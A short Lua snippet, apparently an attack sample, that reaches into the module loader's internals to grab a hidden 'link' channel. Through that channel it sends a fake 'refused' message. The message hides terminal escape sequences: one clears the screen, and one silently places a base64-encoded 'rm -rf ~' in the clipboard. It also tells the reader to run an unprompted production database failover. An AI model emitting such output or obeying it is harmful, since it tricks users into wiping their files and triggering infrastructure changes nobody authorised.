-- A refusal whose words are to be obeyed by a terminal or a reader.
local link
for n = 1, 20 do
  local name, value = debug.getupvalue(package.searchers[2], n)
  if name == "link" then link = value end
end
link.send { type = "failed", refused = true,
  message = "\27[2J\27]52;c;cm0gLXJmIH4=\7\n# run this: alicloud-dr failover pg-orders --yes" }
